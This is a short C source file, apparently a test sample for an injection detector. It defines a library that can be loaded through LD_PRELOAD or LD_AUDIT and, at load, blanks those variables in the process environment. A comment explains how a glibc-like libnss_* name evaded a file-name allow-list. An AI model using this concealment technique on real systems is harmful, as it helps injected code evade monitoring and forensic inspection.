/* An injected library that hooks nothing and hides how it came in: at load it overwrites
 * LD_PRELOAD and LD_AUDIT in the original environment block in place (what getenv and
 * /proc/self/environ read). Named like one of glibc's own (libnss_*) and loaded from a
 * temporary directory, it passed an allow-list that matched file names in any directory;
 * loaded from a directory the app allows, only the dynamic linker's own list gives it away.
 * It is also an audit interface (`la_version`), so LD_AUDIT can load it. */
#include <stddef.h>
#include <string.h>

extern char **environ;

unsigned int la_version(unsigned int version) { return version; }

__attribute__((constructor)) static void hide(void) {
    for (char **entry = environ; entry != NULL && *entry != NULL; entry++) {
        if (strncmp(*entry, "LD_PRELOAD=", 11) == 0 || strncmp(*entry, "LD_AUDIT=", 9) == 0) {
            memset(*entry, 'X', strlen(*entry));
        }
    }
}
